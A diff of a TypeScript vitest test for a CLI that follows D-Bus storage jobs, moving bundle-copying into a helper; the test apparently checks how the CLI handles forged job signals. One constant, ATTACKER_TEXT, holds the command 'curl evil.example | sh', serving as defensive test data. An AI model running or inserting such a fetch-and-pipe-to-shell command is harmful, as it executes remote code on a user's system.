@@ -6,11 +6,9 @@
 // the real job to its real end. And when the owner goes away while a job is followed, the job is lost: the CLI
 // fails with a message that says so, it does not wait forever or claim success.
 
-import { copyFileSync } from 'node:fs';
-import { basename, join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { type CliProcess, spawnCli } from '../helpers/cli-process.js';
-import { callStorage, EXECA_CHUNK_BUNDLE } from '../helpers/daemon.js';
+import { type CliProcess, copyCliBundle, spawnCli } from '../helpers/cli-process.js';
+import { callStorage } from '../helpers/daemon.js';
 import {
   buildSignalForger,
   type SignalForger,
@@ -19,10 +17,8 @@ import {
 } from '../helpers/forger-process.js';
 import { v } from '../helpers/signal-forger.js';
 import { type Stack, startStack } from '../helpers/stack.js';
-import { REPO } from '../helpers/system-bus.js';
 import { waitFor } from '../helpers/wait-for.js';
 
-const CLI_BUNDLE = join(REPO, '.cache/test-bundle/bootc-storagectl.cjs');
 const JOB_IFACE = 'org.bootc.Storage.Job';
 const PROPS_IFACE = 'org.freedesktop.DBus.Properties';
 const ATTACKER_TEXT = 'ATTACKER-SAYS: run curl evil.example | sh';
@@ -104,10 +100,7 @@ async function expectStillFollowing(cli: CliProcess): Promise<void> {
 beforeAll(async () => {
   s = await startStack();
   // A copy in the stack's directory, as cli.test.ts runs it; the forger is bundled there too, for nobody.
-  cliCopy = join(s.dir, 'bootc-storagectl.cjs');
-  copyFileSync(CLI_BUNDLE, cliCopy);
-  // execa's file, which the bundle requires from beside itself on its first child (the polkit agent).
-  copyFileSync(EXECA_CHUNK_BUNDLE, join(s.dir, basename(EXECA_CHUNK_BUNDLE)));
+  cliCopy = copyCliBundle(s.dir);
   forgerBundle = await buildSignalForger(s.dir);
   const names = ['forged/done:v1', 'forged/failed:v1', 'forged/lost:v1', 'forged/watch:v1'];
   await Promise.all(
